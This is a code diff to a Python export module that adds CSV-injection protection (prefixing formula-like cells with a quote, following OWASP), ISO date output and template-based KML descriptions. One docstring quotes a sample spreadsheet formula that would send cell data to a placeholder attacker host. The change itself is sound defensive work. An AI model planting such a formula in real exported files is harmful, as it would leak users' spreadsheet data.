@@ -14,7 +14,7 @@ place) and keep its columns, so a row can be followed from the map to a file and
 
 from __future__ import annotations
 
-import html
+import csv
 import json
 import math
 import re
@@ -24,6 +24,8 @@ from datetime import date, datetime
 from typing import Any
 
 import pandas as pd
+
+from geo import markup
 
 KML_NS = "http://www.opengis.net/kml/2.2"
 DATE_COLUMNS = ("start", "end")
@@ -38,12 +40,13 @@ class ExportFormat:
     name: str
     extension: str
     mime: str
+    label: str  # what a download button calls it
 
 
 FORMATS = {
-    "geojson": ExportFormat("geojson", "geojson", "application/geo+json"),
-    "csv": ExportFormat("csv", "csv", "text/csv"),
-    "kml": ExportFormat("kml", "kml", "application/vnd.google-earth.kml+xml"),
+    "geojson": ExportFormat("geojson", "geojson", "application/geo+json", "GeoJSON"),
+    "csv": ExportFormat("csv", "csv", "text/csv", "CSV"),
+    "kml": ExportFormat("kml", "kml", "application/vnd.google-earth.kml+xml", "KML"),
 }
 
 
@@ -52,7 +55,10 @@ def _plain(value: Any) -> Any:
     if value is None:
         return None
     if isinstance(value, (pd.Timestamp, datetime, date)):
-        return None if pd.isna(value) else value.strftime("%Y-%m-%d")
+        if pd.isna(value):
+            return None
+        # isoformat, not strftime("%Y"): glibc writes the year 1 as "1", not "0001".
+        return (value.date() if isinstance(value, datetime) else value).isoformat()
     if isinstance(value, float) or hasattr(value, "dtype"):
         if pd.isna(value):
             return None
@@ -94,13 +100,44 @@ def to_geojson(df: pd.DataFrame) -> dict:
     return collection
 
 
-def to_csv(df: pd.DataFrame) -> str:
-    """The frame as CSV text: same columns, days as YYYY-MM-DD, ``\\n`` line ends."""
+#: A cell a spreadsheet would read as a formula: it begins with = + - @, or with a tab
+#: or carriage return (OWASP, "CSV Injection"), possibly after other white space.
+_FORMULA_START = re.compile(r"^(?:[\t\r]|\s*[=+\-@])")
+_NUMBER = re.compile(r"[+-]?(?:\d+\.?\d*|\.\d+)(?:[eE][+-]?\d+)?")
+
+
+def spreadsheet_safe(value: Any) -> Any:
+    """``value`` with a ``'`` in front if a spreadsheet would run it as a formula.
+
+    Article text is untrusted: a line ``=HYPERLINK("http://evil.example/?d="&A2,"x")``
+    in an excerpt would become a live formula in Excel or LibreOffice. OWASP's advice is
+    to prefix such cells with a single quote, which spreadsheets show as text. Numbers
+    written as text ("-73.9") are left alone: they are not formulas.
+    """
+    if isinstance(value, str) and _FORMULA_START.match(value) and not _NUMBER.fullmatch(value):
+        return "'" + value
+    return value
+
+
+def to_csv(df: pd.DataFrame, *, for_spreadsheets: bool = True) -> str:
+    """The frame as CSV text: same columns, days as YYYY-MM-DD, ``\\n`` line ends.
+
+    For people (``for_spreadsheets``, the default: downloads and ``python -m geo``), text
+    cells that a spreadsheet would run as formulas are quoted (:func:`spreadsheet_safe`).
+    ``for_spreadsheets=False`` keeps every cell as it is, for files this program reads
+    back itself (``geo.timeline.write_events_table``).
+    """
     out = df.copy()
     for name in DATE_COLUMNS:
         if name in out:
             out[name] = [_plain(v) for v in out[name]]
-    return out.to_csv(index=False, lineterminator="\n")
+    if for_spreadsheets:
+        for name in out.columns:
+            if out[name].dtype == object or pd.api.types.is_string_dtype(out[name]):
+                out[name] = [spreadsheet_safe(v) for v in out[name]]
+    # Text quoted (OWASP's advice too): a bare carriage return in an excerpt would
+    # otherwise end the row for csv readers, as the "\n" line end does not cover it.
+    return out.to_csv(index=False, lineterminator="\n", quoting=csv.QUOTE_NONNUMERIC)
 
 
 def _xml_text(value: Any) -> str:
@@ -109,21 +146,11 @@ def _xml_text(value: Any) -> str:
 
 
 def _description(row: dict[str, Any]) -> str:
-    """The balloon text: HTML whose every piece of data is escaped."""
-
-    def e(name: str) -> str:
-        return html.escape(_xml_text(row.get(name, "")))
-
-    when = e("start") if e("start") == e("end") else f"{e('start')} – {e('end')}"
-    parts = [
-        f"<h3>{e('title')}</h3>",
-        f"<p><b>When:</b> {when} ({e('date_precision')}; “{e('date_phrase')}”)</p>",
-        f"<p><b>Where:</b> {e('place_name')} ({e('place_role')})</p>",
-        f"<blockquote>{e('excerpt')}</blockquote>",
-        f"<p><b>Reported by:</b> {e('reported_by')}<br/><b>Actors:</b> {e('actors')}"
-        f"<br/><b>Confidence:</b> {e('confidence')}</p>",
-    ]
-    return "".join(parts)
+    """The balloon text: HTML rendered with autoescape (``geo/templates/kml_description.html``)."""
+    names = ("title", "start", "end", "date_precision", "date_phrase", "place_name",
+             "place_role", "excerpt", "reported_by", "actors", "confidence")  # fmt: skip
+    values = {n: _xml_text(row.get(n, "")) for n in names}
+    return str(markup.render("kml_description.html", r=values))
 
 
 def to_kml(df: pd.DataFrame, name: str = "Events") -> str:
